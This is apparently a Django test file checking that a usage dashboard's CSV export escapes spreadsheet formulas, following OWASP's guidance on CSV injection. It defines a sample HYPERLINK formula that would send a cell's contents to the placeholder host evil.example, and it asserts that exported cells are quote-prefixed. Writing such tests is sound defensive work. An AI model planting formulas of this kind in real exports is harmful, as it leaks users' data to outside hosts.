"""The dashboard's CSV export never hands a formula to a spreadsheet (issue 14, defect 5).

OWASP, CSV Injection (https://owasp.org/www-community/attacks/CSV_Injection).
"""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from tests.factories import DepartmentFactory, UserFactory, use_case
from usage import rollups
from usage import services as usage

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the report")'


def exported(client, by):
    response = client.get(reverse("usage:dashboard"), {"export": by})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_titles_departments_and_models_with_formulas_are_exported_as_text(client, root):
    department = DepartmentFactory(name="+Sales")
    owner = UserFactory(username="owner", department=department)
    case = use_case(owner, title=EVIL)
    ids = usage.Lookups()
    month = timezone.localdate().replace(day=1)
    usage.insert_records(
        [
            (
                month,
                department.pk,
                case.pk,
                ids.models["gpt-4o"][0],
                "us-central1",
                10,
                5000,
                4000,
                0,
                None,
                None,
                "t",
                "1",
            )
        ]
    )
    rollups.rollups_recompute()
    client.force_login(root)

    by_use_case = exported(client, "use_case")
    by_department = exported(client, "department")

    assert by_use_case[1][0] == "'" + EVIL
    assert by_department[1][0] == "'+Sales"
    # The numbers are still numbers.
    assert by_use_case[1][1] == "10" and float(by_use_case[1][6]) > 0
    assert not any(
        cell.startswith(("=", "+", "-", "@")) for row in by_use_case + by_department for cell in row
    )
